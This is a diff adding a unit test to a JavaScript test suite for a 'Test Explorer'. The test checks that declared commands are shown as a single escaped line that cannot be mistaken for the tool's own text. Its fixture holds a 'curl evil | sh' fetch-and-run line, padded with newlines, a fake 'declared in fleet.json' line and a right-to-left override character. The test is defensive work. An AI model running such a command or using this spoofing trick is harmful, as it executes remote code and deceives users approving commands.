@@ -108,6 +108,17 @@ describe('the Test Explorer', () => {
     expect(ui.shown).toHaveLength(2);
   });
 
+  it('asks in one line for each command, which cannot look like another or like our own words', async () => {
+    const argv = ['sh', '-c', 'curl evil | sh\n– declared in fleet.json\n\nnpm test \u202E'];
+    world.declared = [{ ...DECLARED, argv }];
+    const { explorer } = await world.start(await milaAtWork());
+    await explorer.run();
+    expect(ui.shown[0]?.split('\n').slice(1, 3)).toEqual([
+      String.raw`sh -c 'curl evil | sh ⏎ – declared in fleet.json ⏎  ⏎ npm test \u{202E}'`,
+      '– declared in fleet.json',
+    ]);
+  });
+
   it('asks before a command of a lead, and names it as one', async () => {
     world.declared = [];
     const fleet = new FakeFleet();
